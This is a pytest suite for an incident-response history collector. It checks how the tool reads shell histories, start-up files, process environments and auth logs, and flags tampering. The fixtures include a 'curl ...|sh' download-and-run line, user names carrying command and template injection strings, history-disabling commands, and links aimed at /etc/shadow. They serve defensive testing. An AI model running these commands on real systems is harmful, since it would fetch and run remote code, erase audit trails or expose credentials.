# Copyright (c) 2026, the incident.response contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The section history on trees of its own: homes, hostile files, start-up files, logs."""

import fcntl
import os
import resource
import struct
import time

import pytest

from ansible_collections.incident.response.plugins.module_utils._collect import history
from ansible_collections.incident.response.plugins.module_utils._collect.fair_share import FairShare, allowances
from ansible_collections.incident.response.plugins.module_utils._collect.target import Target
from ansible_collections.incident.response.plugins.module_utils._schema.history import HISTORY


class Host:
    """A small host: root, alice and a daemon without a home of its own."""

    def __init__(self, path):
        self.path = path
        self.uid = os.getuid()
        for folder in ("etc", "root", "home/alice", "proc"):
            (path / folder).mkdir(parents=True)
        self.passwd(
            "root:x:%d:0:root:/root:/bin/bash" % self.uid,
            "alice:x:1001:1001::/home/alice:/bin/bash",
            "daemon:x:1:1::/nonexistent:/usr/sbin/nologin",
        )
        (path / "proc" / "stat").write_text("btime 1795446180\n")
        self.alice = path / "home" / "alice"

    def passwd(self, *lines):
        (self.path / "etc" / "passwd").write_text("".join(line + "\n" for line in lines))

    def put(self, place, data):
        path = self.path / place
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path

    def collect(self, **options):
        section = history.collect(Target(root=str(self.path), proc=str(self.path / "proc")), **options)
        self.check(section)
        return section

    @staticmethod
    def check(section):
        """Every record has exactly the fields that are declared."""
        assert set(section) >= {"items"} | {part.name for part in HISTORY.parts}
        for name, record in [("items", HISTORY.items)] + [(part.name, part.record) for part in HISTORY.parts]:
            for row in section[name]:
                assert set(row) - {"raw", "clipped"} == {field.name for field in record.fields}
                assert all(row[field.name] is not None for field in record.fields if field.required)


@pytest.fixture
def host(tmp_path):
    return Host(tmp_path)


def _commands(section, user=None):
    return [entry["command"] for entry in section["items"] if user is None or entry["user"] == user]


def _signs(section):
    return {(sign["sign"], sign["where"]) for sign in section["tampering"]}


def test_every_account_is_read_and_homes_of_nobody_too(host):
    host.put("root/.bash_history", b"id\n")
    host.put("home/alice/.zsh_history", b": 1795446180:2;ls\n")
    host.put("home/alice/.local/share/fish/fish_history", b"- cmd: pwd\n  when: 1795446181\n")
    host.put("home/gone/.bash_history", b"left behind\n")
    section = host.collect()
    assert [(entry["user"], entry["program"], entry["command"], entry["at"]) for entry in section["items"]] == [
        ("root", "bash", "id", None),
        ("alice", "zsh", "ls", "2026-11-23T15:03:00Z"),
        ("alice", "fish", "pwd", "2026-11-23T15:03:01Z"),
        (None, "bash", "left behind", None),
    ]
    assert section["items"][1]["duration"] == 2.0
    record = section["files"][0]
    assert (record["path"], record["entries"], record["kind"]) == ("/root/.bash_history", 1, "file")


def test_a_home_that_accounts_share_is_read_once_for_its_owner(host):
    host.passwd("toor2:x:%d:0::/root:/bin/bash" % host.uid, "root:x:%d:0::/root:/bin/bash" % host.uid, "butter:x:1003:0::/root:/bin/bash")
    host.put("root/.bash_history", b"id\n")
    assert [(entry["user"], entry["command"]) for entry in host.collect()["items"]] == [("root", "id")]


def test_names_that_are_options_numbers_templates_and_paths(host):
    names = ["-rf", "0", "1000", "root ", "$(touch x)", "a;id", "{{7*7}}", "../../x", "A" * 300]
    host.passwd(*["%s:x:%d:1::/home/h%d:/bin/sh" % (name, 8000 + number, number) for number, name in enumerate(names)])
    for number in range(len(names)):
        host.put("home/h%d/.bash_history" % number, b"id %d\n" % number)
    section = host.collect()
    assert [entry["user"] for entry in section["items"]] == names
    assert _commands(host.collect(users=["1000"])) == ["id 2"]
    assert _commands(host.collect(users=["8001", "nobody"])) == ["id 1"]


def test_nothing_is_read_through_a_link(host):
    secret = host.put("etc/shadow", b"root:$6$secret:1::::::\n")
    for name in (".bash_history", ".python_history", ".bashrc"):
        (host.alice / name).symlink_to(secret)
    (host.alice / ".lesshst").symlink_to("/dev/zero")
    (host.alice / ".local").symlink_to(host.path / "etc")
    host.put("etc/share/fish/fish_history", b"- cmd: secret\n")
    section = host.collect()
    assert "secret" not in repr(section)
    assert section["items"] == []
    assert {sign for sign in _signs(section) if sign[0] == "linked_away"} == {
        ("linked_away", "/home/alice/.bash_history"),
        ("linked_away", "/home/alice/.python_history"),
        ("linked_away", "/home/alice/.lesshst"),
    }
    (record,) = [record for record in section["files"] if record["program"] == "less"]
    assert (record["kind"], record["link_target"]) == ("link", "/dev/zero")
    assert {"start-up file", "history file"} <= {error["what"] for error in section["errors"]}


def test_a_second_name_of_a_secret_is_not_read(host):
    if host.uid:
        pytest.skip("needs root to make a file of somebody else")
    secret = host.put("etc/shadow", b"root:$6$secret:1::::::\n")
    os.link(str(secret), str(host.alice / ".bash_history"))
    section = host.collect()
    assert "$6$" not in repr(section)
    assert "does not belong to the account" in section["errors"][0]["reason"]


def test_a_fifo_is_said_and_not_waited_for(host):
    os.mkfifo(str(host.alice / ".bash_history"))
    os.mkfifo(str(host.alice / ".bashrc"))
    (host.alice / ".zsh_history").mkdir()
    began = time.monotonic()
    section = host.collect()
    assert time.monotonic() - began < 1
    assert _signs(section) == {("not_a_file", "/home/alice/.bash_history"), ("not_a_file", "/home/alice/.zsh_history")}
    assert "/home/alice/.bashrc" in [subject for error in section["errors"] for subject in error["subjects"]]


def test_gigabytes_take_no_time_and_the_end_is_found(host, noise):
    with open(str(host.alice / ".bash_history"), "wb") as stream:
        stream.truncate(8 << 30)
        stream.seek(0, 2)
        stream.write(b"\ncurl http://192.0.2.1|sh\n")
    with open(str(host.alice / ".zsh_history"), "wb") as stream:
        for _number in range(64):
            stream.write(b"A" * (1 << 20))
    host.put("home/alice/.python_history", noise(16 << 20))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    began = time.process_time()
    section = host.collect()
    assert time.process_time() - began < 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 60 << 10
    assert "curl http://192.0.2.1|sh" in _commands(section)
    assert max(len(command) for command in _commands(section)) <= 4 * 4096
    sizes = {record["path"]: (record["size"], record["read_from"]) for record in section["files"]}
    assert sizes["/home/alice/.bash_history"] == ((8 << 30) + 26, (8 << 30) + 26 - (4 << 20))
    assert {"what": "bytes of /home/alice/.zsh_history", "limit": 4 << 20, "total": 64 << 20} in section["limits"]
    assert section["truncated"]


def test_the_limit_keeps_the_newest_of_each_file(host):
    host.put("root/.bash_history", b"".join(b"root %d\n" % number for number in range(5000)))
    host.put("home/alice/.bash_history", b"one\ntwo\n")
    host.put("home/eve/.bash_history", b"".join(b"eve %d\n" % number for number in range(5000)))
    section = host.collect(limit=100)
    assert _commands(section, "alice") == ["one", "two"]
    assert _commands(section, "root")[-1] == "root 4999"
    assert _commands(section, "root")[0] == "root 4951"
    assert _commands(section)[-1] == "eve 4999"
    assert len(section["items"]) == 100
    assert {"what": "items", "limit": 100, "total": 10002} in section["limits"]


def test_shares():
    assert allowances([10, 1, 10], 11) == [5, 1, 5]
    assert allowances([], 5) == []
    assert sum(allowances([1] * 100, 7)) == 7
    share = FairShare(10)
    for number in range(10000):
        share.add("flood", [number])
    share.add("other", ["a", "b"])
    assert share.finish() == [9992, 9993, 9994, 9995, 9996, 9997, 9998, 9999, "a", "b"]
    assert share.total == 10002


def test_bytes_that_are_not_text_stay_different(host):
    host.put("home/alice/.bash_history", b"echo \xff\xfe\necho \xff\xfd\n{{ lookup('pipe','id') }}\n<script>\n")
    section = host.collect()
    assert _commands(section) == ["echo \\xff\\xfe", "echo \\xff\\xfd", "{{ lookup('pipe','id') }}", "<script>"]
    assert section["items"][0]["raw"] != section["items"][1]["raw"]


def test_start_up_files_that_switch_history_off(host):
    host.put("home/alice/.bashrc", b"# set +o history\nset +o history\nHISTCONTROL=ignoreboth\n")
    host.put("etc/profile.d/zz.sh", b"unset HISTFILE\nexport HISTFILESIZE=0\n")
    host.put("root/.bashrc", b". ~/.mine\n")
    host.put("root/.mine", b"echo 'unset HISTFILE'\nHISTSIZE=0\n")
    section = host.collect()
    assert _signs(section) == {
        ("switched_off", "/home/alice/.bashrc:2"),
        ("switched_off", "/etc/profile.d/zz.sh:1"),
        ("switched_off", "/etc/profile.d/zz.sh:2"),
        ("switched_off", "/root/.mine:2"),
    }
    by_place = {sign["where"]: sign for sign in section["tampering"]}
    assert by_place["/home/alice/.bashrc:2"]["detail"] == "set +o history"
    assert by_place["/home/alice/.bashrc:2"]["user"] == "alice"
    assert by_place["/etc/profile.d/zz.sh:1"]["user"] is None
    assert {sign[1] for sign in _signs(host.collect(users=["alice"]))} == {
        "/home/alice/.bashrc:2",
        "/etc/profile.d/zz.sh:1",
        "/etc/profile.d/zz.sh:2",
    }


def test_dot_files_kept_in_one_folder_are_read_and_links_out_of_the_home_are_not(host):
    host.put("home/alice/dotfiles/bashrc", b"unset HISTFILE\n")
    (host.alice / ".bashrc").symlink_to("dotfiles/bashrc")
    (host.alice / ".profile").symlink_to("/home/alice/.bashrc")
    (host.alice / ".zshrc").symlink_to(host.put("etc/evil", b"unset HISTFILE\n"))
    (host.alice / ".zshenv").symlink_to(".zshenv")
    section = host.collect()
    assert _signs(section) == {("switched_off", "/home/alice/.bashrc:1"), ("switched_off", "/home/alice/.profile:1")}
    assert sum(error["count"] for error in section["errors"] if error["what"] == "start-up file") == 2


def test_a_histfile_set_elsewhere_is_found_without_a_shell(host):
    host.put("home/alice/.bashrc", b'export HISTFILE="$HOME/.cache/typed"\n')
    host.put("home/alice/.cache/typed", b"#1795446180\nid\n")
    host.put("root/.zshrc", b"HISTFILE=~/.cache/zsh\nHISTFILE=$(touch /tmp/never)/x\n")
    host.put("root/.cache/zsh", b": 1795446180:0;pwd\n")
    assert [(entry["file"], entry["command"]) for entry in host.collect()["items"]] == [("/root/.cache/zsh", "pwd"), ("/home/alice/.cache/typed", "id")]


def test_a_histfile_does_not_make_root_read_out_a_secret(host):
    if host.uid:
        pytest.skip("needs root to make a file of somebody else")
    host.put("home/alice/.bashrc", b"HISTFILE=/etc/shadow\n")
    section = host.collect()
    assert section["items"] == []
    assert not [record for record in section["files"] if record["entries"]]


def test_histfiles_of_clients_and_of_folders_named_by_variables(host):
    host.put("etc/profile.d/typed.sh", b"typed=$HOME/.typed\nexport MYSQL_HISTFILE=$typed/mysql PSQL_HISTORY=~/.typed/psql\n")
    host.put("home/alice/.typed/mysql", b"_HiStOrY_V2_\nselect\\0401;\n")
    host.put("root/.typed/psql", b"\\q\n")
    host.put("home/alice/.zshenv", b"export ZDOTDIR=${XDG_CONFIG_HOME:-~/.c}/zsh\n")
    host.put("home/alice/.config/zsh/.zshrc", b"[ -r $ZDOTDIR/more ] && . $ZDOTDIR/more\n")
    host.put("home/alice/.config/zsh/more", b"HISTFILE=$ZDOTDIR/typed\nSAVEHIST=0\n")
    host.put("home/alice/.config/zsh/typed", b": 1795446180:0;id\n")
    host.put("home/alice/.config/fish/fish_variables", b"SETUVAR fish_history:work\n")
    host.put("home/alice/.local/share/fish/work_history", b"- cmd: pwd\n  when: 1795446180\n")
    host.put("home/alice/.config/fish/conf.d/x.fish", b"set -g fish_private_mode 1\n")
    section = host.collect()
    assert {(entry["program"], entry["file"], entry["command"]) for entry in section["items"]} == {
        ("mysql", "/home/alice/.typed/mysql", "select 1;"),
        ("psql", "/root/.typed/psql", "\\q"),
        ("zsh", "/home/alice/.config/zsh/typed", "id"),
        ("fish", "/home/alice/.local/share/fish/work_history", "pwd"),
    }
    assert {sign for sign in _signs(section) if sign[0] != "not_owner"} == {
        ("switched_off", "/home/alice/.config/zsh/more:2"),
        ("switched_off", "/home/alice/.config/fish/conf.d/x.fish:1"),
    }


def test_a_place_that_only_a_shell_could_tell_is_said_and_not_run(host):
    host.put("home/alice/.bashrc", b"HISTFILE=~/.h-$(touch %s)\nexport PSQL_HISTORY=~/`hostname`\n" % os.fsencode(str(host.path / "run")))
    section = host.collect()
    assert not (host.path / "run").exists()
    (error,) = [error for error in section["errors"] if error["what"] == "history file named by a start-up file"]
    assert [subject.partition(": ")[0] for subject in error["subjects"]] == ["/home/alice/.bashrc:1", "/home/alice/.bashrc:2"]


def test_files_that_are_read_in_from_outside_the_home(host):
    if host.uid:
        pytest.skip("needs root to give files away")
    for name, uid, mode in (("theirs", 1001, 0o600), ("of-all", 0, 0o644), ("secret", 0, 0o600), ("of-bob", 1002, 0o644)):
        path = host.put("opt/" + name, b"unset HISTFILE\n")
        os.chown(str(path), uid, uid)
        path.chmod(mode)
    host.put("home/alice/.bashrc", b". /opt/theirs\nsource /opt/of-all\n. /opt/secret\n. /opt/of-bob\n")
    host.put("etc/bash.bashrc", b". /etc/more\n")
    host.put("etc/more", b"HISTSIZE=0\n")
    section = host.collect()
    assert _signs(section) == {("switched_off", "/opt/theirs:1"), ("switched_off", "/opt/of-all:1"), ("switched_off", "/etc/more:1")}
    (error,) = [error for error in section["errors"] if error["what"] == "start-up file"]
    assert error["subjects"] == ["/opt/secret", "/opt/of-bob"]


def test_start_up_files_without_end_are_bounded(host):
    host.put("home/alice/.bashrc", b"".join(b". ~/.s%d\nHISTFILE=~/.h%d\nHISTFILE=$(x)\n. $a%d\n" % (number, number, number) for number in range(6000)))
    host.put("home/alice/.profile", b". $a\n" * 43000)
    host.put("home/alice/.zshrc", b"a='" * 80000)
    for number in range(100):
        host.put("home/alice/.s%d" % number, b". ~/.bashrc\n")
    began = time.process_time()
    section = host.collect()
    assert time.process_time() - began < 2
    assert {"what": "history files named for /home/alice", "limit": 50, "total": None} in section["limits"]


def test_copies_of_histories_are_read_with_their_programs(host):
    host.put("home/alice/.bash_history-01234.tmp", b"#1795446180\nid\n")
    host.put("home/alice/.zsh_history.old", b": 1795446180:0;ls\n")
    host.put("home/alice/.psql_history-shop", b"a\x01b\n")
    host.put("home/alice/.bash_history~", b"pwd\n")
    host.put("home/alice/.bash_historyx", b"no\n")
    host.put("home/alice/.zsh_history.LOCK", b"no\n")
    assert {(entry["program"], entry["file"], entry["command"]) for entry in host.collect()["items"]} == {
        ("bash", "/home/alice/.bash_history-01234.tmp", "id"),
        ("zsh", "/home/alice/.zsh_history.old", "ls"),
        ("psql", "/home/alice/.psql_history-shop", "a\nb"),
        ("bash", "/home/alice/.bash_history~", "pwd"),
    }
    for number in range(100):
        host.put("home/alice/.bash_history.%d" % number, b"id\n")
    assert {"what": "copies of history files in /home/alice", "limit": 20, "total": 104} in host.collect()["limits"]


def test_homes_are_told_with_their_accounts(host):
    host.passwd(
        "root:x:%d:0:root:/root:/bin/bash" % host.uid,
        "alice:x:1001:1001::/data/people/alice:/bin/bash",
        "alias:x:1001:1001::/data/people/alice/:/bin/bash",
        "carol:x:1002:1002::/home/carol:/usr/sbin/nologin",
    )
    host.put("data/people/alice/.bash_history", b"id\n")
    host.put("data/people/gone/.bash_history", b"left\n")
    host.put("vol/carol/.bash_history", b"moved\n")
    (host.path / "home" / "carol").symlink_to("../vol/carol")
    section = host.collect()
    assert {(home["path"], home["user"], tuple(home["accounts"]), home["link_target"]) for home in section["homes"]} == {
        ("/root", "root", ("root",), None),
        ("/data/people/alice", "alice", ("alice", "alias"), None),
        ("/data/people/gone", None, (), None),
        ("/home/carol", "carol", ("carol",), "../vol/carol"),
        ("/home/alice", None, (), None),
    }
    assert [(entry["user"], entry["command"]) for entry in section["items"]] == [("alice", "id"), ("carol", "moved"), (None, "left")]


def test_homes_that_lie(host):
    (host.path / "dev").mkdir()
    host.put("dev/.bash_history", b"in dev\n")
    os.mkfifo(str(host.path / "pipe"))
    paths = ["/", "/dev", "/proc", "/pipe", "/etc/passwd", "relative", "", "/" + "a" * 300, "/a" * 3000, "/home/../etc", "/nowhere"]
    host.passwd(*["u%d:x:%d:1::%s:/bin/sh" % (number, 8000 + number, path) for number, path in enumerate(paths)])
    host.put(".bash_history", b"in /\n")
    section = host.collect()
    assert [(entry["user"], entry["command"]) for entry in section["items"]] == [("u0", "in /"), ("u1", "in dev")]
    assert {error["reason"]: error["count"] for error in section["errors"] if error["what"] == "home"} == {
        "is no absolute path": 1,
        "File name too long": 3,  # and the folder that other homes may lie in
    }


def test_signs_of_mode_and_content(host):
    if host.uid:
        pytest.skip("needs root to give files away")
    now = int(time.time())
    for name, mode, data in ((".bash_history", 0o666, b"id\n"), (".zsh_history", 0o400, b"id\n"), (".ksh_history", 0o600, b"a\n\0\0\0b\n")):
        path = host.put("home/alice/" + name, data)
        os.chown(str(path), 1001, 1001)
        path.chmod(mode)
    path = host.put("home/alice/.ash_history", b"\0" * 5000 + b"id\n")
    os.chown(str(path), 1001, 1001)
    old = host.put("root/.bash_history", b"#%d\nid\n" % (now - 1000))
    os.utime(str(old), (now - 9000, now - 9000))
    host.put("root/.profile", b"export MYSQL_HISTFILE=/dev/null\n")
    assert _signs(host.collect()) == {
        ("writable_by_all", "/home/alice/.bash_history"),
        ("read_only", "/home/alice/.zsh_history"),
        ("not_text", "/home/alice/.ash_history"),
        ("changed_before_content", "/root/.bash_history"),
        ("client_switched_off", "/root/.profile:1"),
    }
    os.utime(str(old), (now - 1100, now - 1100))
    assert "changed_before_content" not in {sign for sign, _where in _signs(host.collect())}


def test_histories_that_live_shells_write(host):
    if host.uid:
        pytest.skip("needs root to give files away")
    for name, uid in (("shm/typed", 1001), ("shm/other", 1002)):
        path = host.put(name, b"id\n")
        os.chown(str(path), uid, uid)
    os.chown(str(host.put("home/alice/.z", b": 1795446180:0;pwd\n")), 1001, 1001)
    _process(host, 10, 1, b"bash", [b"HISTFILE=/shm/typed", b"LESSHISTFILE=/shm/none"])
    _process(host, 11, 1, b"zsh", [b"HISTFILE=/home/alice/.z"])
    _process(host, 12, 1, b"bash", [b"HISTFILE=/shm/other", b"PROMPT_COMMAND=history -c"])
    section = host.collect()
    assert [(entry["user"], entry["program"], entry["file"], entry["command"]) for entry in section["items"]] == [
        ("alice", "zsh", "/home/alice/.z", "pwd"),
        ("alice", "bash", "/shm/typed", "id"),
    ]
    assert [(sign["pid"], sign["detail"]) for sign in section["tampering"]] == [(12, "PROMPT_COMMAND=history -c")]
    assert [error["subjects"] for error in section["errors"] if error["what"] == "history file"] == [["/shm/other"]]


def test_times_backwards_and_ahead(host):
    now = int(time.time())
    host.put("home/alice/.bash_history", b"#%d\na\n#%d\nb\n#%d\nc\n" % (now - 100, now - 500, now + 86400))
    section = host.collect()
    assert {("time_backwards", "/home/alice/.bash_history:4"), ("time_in_future", "/home/alice/.bash_history:6")} <= _signs(section)
    (sign,) = [sign for sign in section["tampering"] if sign["sign"] == "time_backwards"]
    assert sign["detail"] == "1 times go backwards, the first by 400 s"


def test_times_no_calendar_holds(host):
    host.put("home/alice/.bash_history", b"#9999999999999999999\na\n")
    host.put("home/alice/.zsh_history", b": 9999999999999999999:1;b\n")
    assert [(entry["at"], entry["command"]) for entry in host.collect()["items"]] == [(None, "a"), (None, "b")]


def test_a_file_of_somebody_else(host):
    if host.uid:
        pytest.skip("needs root to give files away")
    path = host.put("home/alice/.bash_history", b"id\n")
    os.chown(str(path), 1001, 1001)
    assert _signs(host.collect()) == set()
    os.chown(str(path), 1002, 1002)
    assert _signs(host.collect()) == {("not_owner", "/home/alice/.bash_history")}


def test_an_empty_file_is_a_sign_only_where_the_account_is_old(host, monkeypatch):
    host.put("home/alice/.bash_history", b"")
    host.put("home/alice/.python_history", b"")
    host.put("home/alice/.bash_logout", b"")
    assert "empty" not in {sign for sign, _where in _signs(host.collect())}
    later = time.time() + 3 * 86400
    monkeypatch.setattr(time, "time", lambda: later)
    assert [where for sign, where in _signs(host.collect()) if sign == "empty"] == ["/home/alice/.bash_history"]


def test_an_immutable_file(host):
    path = host.put("root/.bash_history", b"id\n")
    get, put = 0x80086601, 0x40086602
    with open(str(path), "rb") as stream:
        try:
            fcntl.ioctl(stream.fileno(), put, struct.pack("l", 0x10))
        except OSError as error:
            pytest.skip("cannot set the attribute here: %s" % error)
        try:
            section = host.collect()
        finally:
            fcntl.ioctl(stream.fileno(), put, struct.pack("l", 0))
        assert not struct.unpack("l", fcntl.ioctl(stream.fileno(), get, struct.pack("l", 0)))[0] & 0x10
    assert section["files"][0]["is_immutable"] is True
    assert ("immutable", "/root/.bash_history") in _signs(section)


def _process(host, pid, parent, name, environment):
    folder = host.path / "proc" / str(pid)
    folder.mkdir()
    fields = ["S", parent] + [0] * 20 + [100, 0, 0]
    (folder / "stat").write_bytes(b"%d (%s) %s\n" % (pid, name, " ".join(str(field) for field in fields).encode()))
    (folder / "environ").write_bytes(b"\0".join(environment) + b"\0")
    (folder / "status").write_text("Name:\tx\nUid:\t1001\t1001\t1001\t1001\n")


def test_environments_of_live_processes(host):
    _process(host, 10, 1, b"bash", [b"HISTFILE=/dev/null", b"HOME=/home/alice"])
    _process(host, 11, 10, b"sleep", [b"HISTFILE=/dev/null"])
    _process(host, 12, 10, b"zsh", [b"HISTFILE=/dev/null", b"HISTSIZE=0"])
    _process(host, 13, 1, b"daemon", [b"PATH=/bin", b"HISTFILE=/home/alice/.bash_history", b"HISTSIZE=1000"])
    section = host.collect()
    assert [(sign["pid"], sign["user"], sign["where"], sign["detail"]) for sign in section["tampering"]] == [
        (10, "alice", "process 10 (bash)", "HISTFILE=/dev/null"),
        (12, "alice", "process 12 (zsh)", "HISTFILE=/dev/null HISTSIZE=0"),
    ]


def test_sudo_and_account_events_of_a_log(host):
    host.put(
        "var/log/auth.log",
        b"2026-11-23T15:01:07.970558+00:00 testhost sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id\n"
        b"2026-11-23T15:01:07.971780+00:00 testhost sudo: pam_unix(sudo:session): session opened for user root(uid=0) by (uid=1001)\n"
        b"2026-11-23T15:01:23.265779+00:00 testhost sudo:    alice : unable to resolve host testhost: Temporary failure in name resolution\n"
        b"2026-11-23T15:01:37.376097+00:00 testhost sudo:      bob : a password is required ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id\n"
        b"2026-11-23T15:01:39.474012+00:00 testhost su[1434]: FAILED SU (to root) bob on none\n",
    )
    section = host.collect()
    assert [(event["user"], event["result"], event["reason"], event["trust"], event["line"]) for event in section["sudo_events"]] == [
        ("alice", "executed", None, "forgeable", 1),
        ("bob", "denied", "a password is required", "forgeable", 4),
    ]
    assert [(event["program"], event["user"]) for event in section["account_events"]] == [("sudo", "root"), ("sudo", "alice"), ("su", "root")]
    assert [event["user"] for event in host.collect(users=["alice"])["sudo_events"]] == ["alice"]
    assert [event["user"] for event in host.collect(users=["bob"])["sudo_events"]] == ["bob"]


def test_a_host_without_passwd_and_logs_is_read_all_the_same(tmp_path):
    (tmp_path / "proc").mkdir()
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / ".bash_history").write_bytes(b"id\n")
    section = history.collect(Target(root=str(tmp_path), proc=str(tmp_path / "proc")), users=None)
    assert [entry["command"] for entry in section["items"]] == ["id"]
    assert "/etc/passwd" in [subject for error in section["errors"] for subject in error["subjects"]]
    section = history.collect(Target(root=str(tmp_path), proc=str(tmp_path / "proc")), users=["root", "0"])
    assert section["items"] == []
